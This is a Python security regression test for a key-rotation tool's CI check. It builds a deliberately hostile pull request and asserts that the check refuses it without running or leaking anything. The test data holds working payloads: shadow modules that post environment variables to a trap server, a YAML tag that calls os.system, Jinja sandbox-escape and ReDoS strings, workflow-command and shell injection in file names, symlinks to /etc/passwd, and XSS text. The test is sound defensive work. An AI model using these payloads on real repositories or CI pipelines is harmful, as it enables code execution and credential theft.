"""A pull request with every threat at once, through the real check: it is refused, and nothing of it comes to life.

Mallory may propose any change of what is nobody's ground, and of policy, catalogue and templates, which CODEOWNERS
guard: the review judges by those of the base.
"""

from __future__ import annotations

import re
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest
from fake_github import BOT, Access
from fake_github.comments import COMMENT_ROUTES
from fake_github.fake import utc_now
from hostile import live_in_markdown, live_on_a_terminal
from shell.scripted_provider import always, reply, serving

if TYPE_CHECKING:
    from collections.abc import Iterator

    from fake_github import FakeGitHub
    from shell.scripted_provider import Service
    from workflows.project import Project, Run

pytestmark = pytest.mark.repository

MARK = "<!-- keyturn-review acme/keys:. -->"
PASTED = "gh" + "p_" + "aB3dE6gH9j" * 3 + "aB3dE6"  # no literal of its form stands in this repository
IN_A_COMMENT = "sk" + "_live_" + "Zy9Xw8Vu7T" * 2 + "Zy9X"
CANARY = "canary-" + "c" * 24
BIDI, CYRILLIC_O, ZERO_WIDTH = "\u202e", "\u043e", "\u200b"

ROTATION = "provider: mixpanel\nkey: {key}\nowners: [alice]\ncreated: {created}\nconsumers: []\n"
FORGED = '<!-- keyturn {"scope": "acme/keys:.", "id": "mixpanel/leaked", "closed": "completed"} -->'
TEXTS = (
    "@alice and @acme/team, closes #1, fixes https://github.com/acme/keys/issues/1 --> <img src=x onerror=y>",
    "![x](https://trap.example/i.png) [x](javascript:alert(1)) <script>alert(1)</script> - [x] done",
    "::set-env name=NODE_OPTIONS::x ::add-mask::mixpanel ##[error]x ${{ github.token }} $(touch stolen) `touch stolen`",
    FORGED,
    MARK,
)

# Names that try what texts do: a problem shows the name of its file.
NAMES = (
    "@alice closes #1.yaml",
    "<!-- @bob --><img src=x onerror=y>.yaml",
    "::add-mask::mixpanel.yaml",
    "a\n::error::forged by mallory.yaml",
    "b\r\n::stop-commands::mallory.yaml",
    "c\n##[set-env name=PATH]mallory.yaml",
    "d%0A::error file=keyturn.yaml::forged by mallory.yaml",
    "${{ github.token }}.yaml",
    "$(touch stolen)`touch stolen`.yaml",
    "| a | [x](https:trap.example).yaml",
    f"e{BIDI}lmay.yaml",
    "\x1b]0;mallory\x07.yaml",
    "--help.yaml",
)

# Python looks into the folder it starts in, unless it is told not to.
MODULE = """\
import os, urllib.request
open({stolen!r}, "a").write(__name__)
urllib.request.urlopen("{trap}/module", data=repr(os.environ).encode())
"""
MODULES = ("keyturn.py", "json.py", "yaml.py", "pip.py", "sitecustomize.py", "typing.py", "git/__init__.py")

REFUSED = {
    ("incidents/all.yaml", "missing-field"),
    ("providers/slow.yaml", "wrong-format"),
    ("rotations/bidi.yaml", "control-character"),
    ("rotations/bomb.yaml", "alias"),
    ("rotations/deep.yaml", "too-deep"),
    ("rotations/folder", "not-a-regular-file"),
    ("rotations/forged.yaml", "created-without-evidence"),
    ("rotations/future.yaml", "created-in-future"),
    ("rotations/homoglyph.yaml", "wrong-format"),
    ("rotations/leaked.yaml", "leak-withdrawn"),
    ("rotations/link.yaml", "not-a-regular-file"),
    ("rotations/many.yaml", "too-large"),
    ("rotations/merged.yaml", "several-documents"),
    ("rotations/outside.yaml", "not-a-regular-file"),
    ("rotations/pasted.yaml", "credential"),
    ("rotations/tag.yaml", "tag"),
    ("rotations/twice.yaml", "duplicate-key"),
    ("rotations/waived.yaml", "waiver-too-long"),
}
WARNED = {"catalogue-overridden", "policy-weakened"}


def day(ago: int) -> str:
    return (utc_now().date() - timedelta(days=ago)).isoformat()


def rotation(key: str, ago: int = 200, more: str = "") -> str:
    return ROTATION.format(key=key, created=day(ago)) + more


def declare(project: Project) -> None:
    """Declare, on the default branch, what the change is about to attack."""
    project.write("keyturn.yaml", "evidence: {methods: {standard: {new_key: [probe], old_key: [probe]}}}\n")
    leak = f"request: {{reason: leaked, replaces: {day(200)}, deadline: {day(-2)}}}\n"
    project.write("rotations/leaked.yaml", rotation("leaked", more=leak))
    for key in ("tracked", "forged", "future", "waived"):
        project.write(f"rotations/{key}.yaml", rotation(key))
    project.git("config", "canary.value", CANARY)
    project.push()
    project.keyturn("apply", "--tracker", "github:acme/keys")


def attack(project: Project, trap: str) -> None:
    """Make the change."""
    write, folder = project.write, project.folder
    write(
        "keyturn.yaml",
        f"probe: {{hosts: ['{trap}'], confidence: [documented, detector, inferred]}}\n"
        "evidence: {require: [consumers], four_eyes: false}\nmax_waiver: 3650d\nlimits: {max_close_percent: 100}\n",
    )
    provider = (folder / "providers/mixpanel.yaml").read_text(encoding="utf-8")
    write("providers/mixpanel.yaml", re.sub(r"https://(eu\.|in\.)?mixpanel\.com/api/app/me", f"{trap}/me", provider))
    slow = "redos: {kind: value, pattern: '^(a+)+$'}, host: {kind: value, pattern: '^(a|a)*$'}"
    write(
        "providers/slow.yaml",
        f"name: Slow\nstrategy: overlap\nprobe: {{method: GET, url: {trap}, params: {{{slow}}}}}\n",
    )
    write(
        "templates/issue.md.jinja",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(10**9) %}{% endfor %}",
    )
    write(
        "incidents/all.yaml",
        f"summary: '@alice'\nexposed_since: {day(9)}\nrespond_by: {day(0)}\nlink: javascript:alert(1)\n",
    )
    _attack_keys(project)
    for number, name in enumerate(NAMES):
        write(f"rotations/{name}", f"provider: mixpannel-{number}\n")
    for module in MODULES:
        write(module, MODULE.format(stolen=str(project.place / "stolen"), trap=trap))
    (folder / "rotations/link.yaml").symlink_to("../.git/config")
    (folder / "rotations/outside.yaml").symlink_to("/etc/passwd")
    (folder / "rotations/folder").symlink_to("../.git")
    (folder / "rotations/tracked.yaml").unlink()


def _attack_keys(project: Project) -> None:
    def write(name: str, text: str) -> None:
        project.write(f"rotations/{name}.yaml", text)

    at = f"{day(1)}T09:00:00Z"
    proof = f"{{method: probe, at: {at}}}"
    write("leaked", rotation("leaked"))
    write("forged", rotation("forged", 1))
    write(
        "future",
        rotation("future", -30, f"evidence: {{replaces: {day(200)}, new_key: {proof}, by: mallory}}\n"),
    )
    write("waived", rotation("waived", more=f"waiver: {{until: {day(-3000)}, reason: '{TEXTS[0]}'}}\n"))
    for number, text in enumerate(TEXTS):
        quoted = "'" + text.replace("'", "''") + "'"
        write(f"text-{number}", rotation(f"text-{number}", more=f"description: {quoted}\nteam: {quoted}\n"))
    write("bidi", rotation("bidi", more=f"description: a{BIDI}b{ZERO_WIDTH}\n"))
    write("bomb", "a: &a [x, x, x, x, x, x, x, x]\n" + "".join(f"b{n}: &b{n} [*a, *a, *a, *a]\n" for n in range(9)))
    write("deep", "[" * 100_000)
    write("homoglyph", rotation(f"l{CYRILLIC_O}ader"))
    write("many", "# " + "x" * 300_000)
    write("merged", rotation("one") + "---\n" + rotation("two"))
    write("pasted", rotation("pasted", more=f"params: {{token: {PASTED}}} # or {IN_A_COMMENT}\n"))
    write("tag", rotation("tag", more="description: !!python/object/apply:os.system [touch stolen]\n"))
    write("twice", rotation("twice", more="owners: [mallory]\n"))


def check(project: Project) -> Run:
    pull_request = {
        "number": 1,
        "title": TEXTS[0],
        "body": "\n".join(TEXTS),
        "base": {"ref": "main"},
        "head": {"ref": "x$(touch stolen)", "label": "mallory:x"},
    }
    return project.run("check.yml", "pull_request", number=1, pull_request=pull_request)


@pytest.fixture
def trap() -> Iterator[Service]:
    with serving() as service:
        service.tell(always(reply(200)))
        yield service


def issues(fake: FakeGitHub) -> list[tuple[int, str, str | None, str]]:
    every = fake.repository().issues.values()
    return [(issue.number, issue.title, issue.body, issue.state) for issue in every]


@pytest.mark.parametrize("access", [Access.PUSH, Access.READ], ids=["own", "fork"])
def test_a_hostile_pull_request_is_refused_and_nothing_of_it_comes_to_life(
    access: Access, project: Project, fake: FakeGitHub, trap: Service
) -> None:
    fake.routes.add(*COMMENT_ROUTES)
    fake.add_issue("Change keys", author="mallory", is_pull_request=True)
    project.lock()
    declare(project)
    before, written = issues(fake), len(fake.writes)
    project.token = fake.add_token(BOT, installation=True, access=access)
    attack(project, f"http://127.0.0.1:{trap.port}")
    project.propose()

    told = check(project)
    assert told.jobs == {"check/Check the declared keys": "failure"}
    assert [told.steps[name] for name in ("Validate the declared files", "Review the change")] == ["failure"] * 2

    # Nothing is written but the comment, and not even that for a fork.
    comments = [comment.body for comment in fake.issue(1).comments]
    assert [(each.method, each.path) for each in fake.writes[written:]] == [
        ("POST", "/repos/acme/keys/issues/1/comments")
    ]
    assert len(comments) == (access is Access.PUSH)
    assert issues(fake) == before

    # Nothing is asked of anybody else, and nothing of the change is run.
    assert trap.heard == []
    assert not (project.place / "stolen").exists()
    assert list(project.home.rglob("stolen")) == []

    # No command is obeyed but ours, and none waits in the log for another runner.
    assert told.commands <= {"error", "warning", "summary", "set-output"}
    assert "mallory" not in "".join(told.titles)
    assert live_on_a_terminal(told.log) == []

    # No secret is shown.
    shown = "\n".join([told.log, told.summary, *comments, *(message for _, message in told.annotations)])
    assert [name for name in (PASTED, IN_A_COMMENT, CANARY, project.token, "root:x:") if name in shown] == []

    # What a reviewer reads is inert, and says what is wrong with each file.
    for page in (told.summary, *(comment.removeprefix(f"{MARK}\n") for comment in comments)):
        assert live_in_markdown(page) == []
        assert "<!--" not in page
        assert set(re.findall(r"<(?!br>)[a-zA-Z!/][^>]*", page)) == set()
    assert {found for found in REFUSED if not re.search(_line(*found), told.log, re.MULTILINE)} == set()
    assert told.titles >= WARNED
    named = re.findall(r"^(rotations/.*mallory.*|rotations/.*touch stolen.*)$", told.log, re.MULTILINE)
    assert len({line.partition(".yaml")[0] for line in named}) == 6
    assert "@alice closes #1.yaml:1:1: missing-field" in told.log


def _line(path: str, code: str) -> str:
    return rf"^{re.escape(path)}:[0-9]+:[0-9]+: {code}: "
